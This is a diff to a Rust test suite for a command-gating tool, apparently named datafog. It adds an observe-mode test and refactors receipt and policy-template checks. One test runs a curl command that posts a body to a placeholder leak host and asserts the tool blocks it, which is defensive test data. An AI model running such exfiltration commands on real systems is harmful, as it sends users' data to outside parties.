@@ -5,7 +5,6 @@ use std::fs;
 use crate::support::{Install, github_token};
 
 /// The table itself, which the binary's own file holds.
-#[expect(dead_code, reason = "the test reads the table, not its conversions")]
 #[path = "../../crates/datafog/exit_code.rs"]
 mod exit_code;
 
@@ -182,7 +181,22 @@ fn run_gates_one_command() {
     let blocked = install.datafog(["run", "--", "curl", "-d", &body, "http://leak.example/"]).run();
     let blocked = blocked.ends_with(126);
     assert!(blocked.stderr().starts_with("receipt="), "{}", blocked.stderr());
-    install.datafog(["run", "--", "no-such-command-here"]).run().ends_with(127);
+    let nowhere = install.datafog(["run", "--", "curl", "http://127.0.0.1/"]).env("PATH", "/none");
+    nowhere.run().ends_with(127);
+}
+
+#[test]
+fn observing_changes_nothing_and_records_what_it_would_have_done() {
+    let install = Install::observing(&["cat"]);
+    let rule = "[policy]\nid = \"mine\"\nversion = \"1\"\n[[rule]]\nid = \"no-cat\"\neffect = \"deny\"\n\
+        reason = \"no\"\ninstead = \"look elsewhere\"\nmatch = [\"cat x\"]\n[rule.when]\ncommand = \"cat\"\n";
+    fs::write(install.root().join("policy.toml"), rule).unwrap();
+    let ran = install.shim("cat", ["-"]).run_with(b"one\ntwo").succeeds();
+    assert_eq!((ran.stdout(), ran.stderr()), ("one\ntwo".to_owned(), String::new()));
+    let receipt = install.receipts().pop().unwrap();
+    assert_eq!((&receipt["decision"], &receipt["enforcement"]), (&"deny".into(), &"exec".into()));
+    let stricter = install.shim("cat", ["-"]).env("DATAFOG_SHIM_MODE", "enforced").run();
+    assert_eq!(stricter.code(), 126);
 }
 
 #[test]
@@ -247,7 +261,11 @@ fn receipts_are_listed_shown_and_verified() {
     assert_eq!(receipts.len(), 2);
     assert_eq!((&receipts[0]["seq"], &receipts[1]["seq"]), (&3.into(), &2.into()), "newest first");
     let id = receipts[1]["receipt_id"].as_str().unwrap();
-    let shown = install.datafog(["receipts", "show", &id[24..], "--json"]).run().succeeds().json();
+    let shown = install
+        .datafog(["receipts", "show", id.get(24..).unwrap(), "--json"])
+        .run()
+        .succeeds()
+        .json();
     assert_eq!(shown["receipt"]["receipt_id"], id);
     install.datafog(["receipts", "verify"]).run().succeeds();
     let path = install.root().join("receipts/00000001.jsonl");
@@ -307,8 +325,8 @@ fn the_template_of_a_policy_holds_when_its_comments_are_taken_off() {
         .lines()
         .filter(|line| !line.starts_with("# An exception"))
         .map(|line| {
-            line.strip_prefix("# ").unwrap_or(line.strip_prefix('#').unwrap_or(line)).to_owned()
-                + "\n"
+            let rest = line.strip_prefix("# ").or_else(|| line.strip_prefix('#'));
+            rest.unwrap_or(line).to_owned() + "\n"
         })
         .collect();
     fs::write(install.root().join("policy.toml"), format!("{head}[[rule]]{rules}")).unwrap();
